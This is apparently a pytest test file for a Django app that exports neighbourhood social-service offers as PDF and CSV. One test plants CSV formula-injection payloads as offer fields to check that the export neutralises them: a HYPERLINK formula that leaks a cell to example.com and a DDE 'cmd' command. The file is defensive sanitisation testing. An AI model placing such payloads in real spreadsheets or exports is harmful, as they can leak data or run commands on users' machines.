import pytest
from django.urls import reverse

from quartier.core.csvfiles import FORMULA_STARTS, read_rows
from tests.factories.offers import LocationFactory, OfferFactory
from tests.pdf import pdf_text

pytestmark = [
    pytest.mark.django_db,
    # WeasyPrint warns on import where the system lacks libharfbuzz-subset; the PDF is the same.
    pytest.mark.filterwarnings("ignore:HarfBuzz-Subset:DeprecationWarning"),
]


def test_pdf_of_a_social_space_lists_its_offers_grouped_with_an_index(world, vocabularies):
    from quartier.offers.models import TaxonomyTerm

    topic = TaxonomyTerm.objects.get(code="erziehungsberatung")
    OfferFactory(
        organisation=world.organisation,
        name="Erziehungsberatung Nord",
        areas=[world.district],
        topics=[topic],
    )
    response = world.client("anonymous").get(
        reverse("offers:area_pdf", kwargs={"slug": world.social_space.slug})
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    pdf = response.content
    assert pdf.startswith(b"%PDF")
    text = pdf_text(pdf)
    assert "Familiencafé Nord" in text
    assert "Erziehungsberatung Nord" in text
    assert "Hilfen zur Erziehung" in text  # the group of its topic
    assert "Verzeichnis A–Z" in text
    # Drafts and other areas' offers are not in it.
    assert "Hausaufgabenhilfe Nord" not in text
    assert "Jugendtreff Anderstadt" not in text


def test_csv_of_a_social_space(world, django_assert_max_num_queries):
    client = world.client("anonymous")
    url = reverse("offers:area_csv", kwargs={"slug": world.social_space.slug})
    with django_assert_max_num_queries(10):
        response = client.get(url)
    assert response["Content-Type"].startswith("text/csv")
    # For German Excel: UTF-8 with a byte order mark, semicolons; commas on request.
    assert response.content.startswith(b"\xef\xbb\xbfid;name;")
    rows = read_rows(response.content)
    with_commas = client.get(url, {"trennzeichen": "komma"}).content
    assert with_commas.startswith(b"\xef\xbb\xbfid,name,")
    assert read_rows(with_commas) == rows
    names = {row["name"] for row in rows}
    # Other apps' test worlds add offers of their own to the social space.
    assert {"Familiencafé Nord", "Elterntreff Nord"} <= names
    assert all(row["page"] for row in rows)
    cafe = next(row for row in rows if row["name"] == "Familiencafé Nord")
    assert cafe["organisation"] == "Nachbarschaftshaus Nord"
    assert "Nordstraße 5" in cafe["address"]
    assert cafe["opening_hours"] == "Montag 09:00–12:00"
    assert cafe["wheelchair_accessible"] == "ja"
    assert cafe["page"].endswith(world.offer.get_absolute_url())


def test_export_of_an_unknown_area_is_404(world):
    for name in ("offers:area_pdf", "offers:area_csv"):
        response = world.client("anonymous").get(reverse(name, kwargs={"slug": "gibt-es-nicht"}))
        assert response.status_code == 404


def _csv_rows(response):
    return read_rows(response.content)


def test_csv_cells_that_look_like_formulas_are_text(world, django_assert_max_num_queries):
    OfferFactory(
        organisation=world.organisation,
        name='=HYPERLINK("https://example.com/?leak="&A1;"Hilfe")',
        phone="+49 651 123456",
        email="@SUM(1+1)",
        url="-2+3",
        areas=[world.district],
        locations=[LocationFactory(street="\tcmd|' /C calc'!A0", postcode="54292")],
    )
    url = reverse("offers:area_csv", kwargs={"slug": world.social_space.slug})
    with django_assert_max_num_queries(11):
        response = world.client("anonymous").get(url)
    assert response.status_code == 200
    row = next(row for row in _csv_rows(response) if "HYPERLINK" in row["name"])
    assert row["name"] == """'=HYPERLINK("https://example.com/?leak="&A1;"Hilfe")"""
    assert row["phone"] == "'+49 651 123456"
    assert row["email"] == "'@SUM(1+1)"
    assert row["url"] == "'-2+3"
    assert row["address"].startswith("'\tcmd")
    # Every other cell of every row starts harmlessly.
    for each in _csv_rows(response):
        assert not any(value.startswith(FORMULA_STARTS) for value in each.values())
    cafe = next(row for row in _csv_rows(response) if row["name"] == "Familiencafé Nord")
    assert cafe["phone"] == "0651 123456"  # plain values are left as they are


def test_export_of_an_area_over_the_limit_asks_for_a_smaller_area(
    world, settings, monkeypatch, django_assert_max_num_queries
):
    from quartier.offers import export

    def no_rendering(*args, **kwargs):
        raise AssertionError("the PDF of a large area must not be rendered")

    monkeypatch.setattr(export, "render_area_pdf", no_rendering)
    settings.QUARTIER_OFFER_EXPORT_MAX = 1
    client = world.client("anonymous")
    for name, kind in (("offers:area_pdf", "PDF"), ("offers:area_csv", "CSV")):
        url = reverse(name, kwargs={"slug": world.social_space.slug})
        with django_assert_max_num_queries(12):
            response = client.get(url, headers={"accept-language": "en"})
        assert response.status_code == 400
        assert response["Content-Type"].startswith("text/html")
        html = response.content.decode()
        assert f"The catalogue as {kind} is made for areas with at most 1 offer." in html
        assert world.district.get_absolute_url() in html  # a smaller area to choose
        assert world.social_space.get_absolute_url() in html


def test_export_of_an_area_at_the_limit_is_delivered(world, settings):
    from quartier.offers.selectors import area_offers

    settings.QUARTIER_OFFER_EXPORT_MAX = area_offers(world.social_space).count()
    url = reverse("offers:area_csv", kwargs={"slug": world.social_space.slug})
    response = world.client("anonymous").get(url)
    assert response.status_code == 200
    assert len(_csv_rows(response)) == settings.QUARTIER_OFFER_EXPORT_MAX


def test_export_refuses_other_methods(world):
    for name in ("offers:area_pdf", "offers:area_csv"):
        url = reverse(name, kwargs={"slug": world.social_space.slug})
        assert world.client("anonymous").post(url).status_code == 405
